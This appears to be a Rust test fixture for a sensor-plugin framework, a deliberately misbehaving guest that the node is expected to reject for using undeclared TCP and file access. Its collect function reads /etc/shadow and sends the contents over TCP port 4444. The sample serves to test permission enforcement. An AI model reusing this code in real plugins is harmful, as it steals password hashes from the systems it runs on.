//! A guest that imports TCP and files although its manifest asks for neither. The node must refuse it
//! before it compiles it.

use sonde_sensor::{Batch, Description, Failure, Gauge, Sensor, files, tcp};

static TAKEN: Gauge =
    Gauge::new("guest_greedy_taken_bytes", "Bytes of a file that is none of its business.").unit("bytes");

/// The guest.
pub struct Greedy;

impl Sensor for Greedy {
    const DESCRIPTION: Description = Description::Families(&[&TAKEN]);

    fn collect(out: &mut Batch) -> Result<(), Failure> {
        let taken = files::read("/etc/shadow", 4096)?;
        tcp::connect(4444)?.send(&taken)?;
        out.gauge(&TAKEN, [], taken.len() as f64);
        Ok(())
    }
}

sonde_sensor::export!(Greedy);
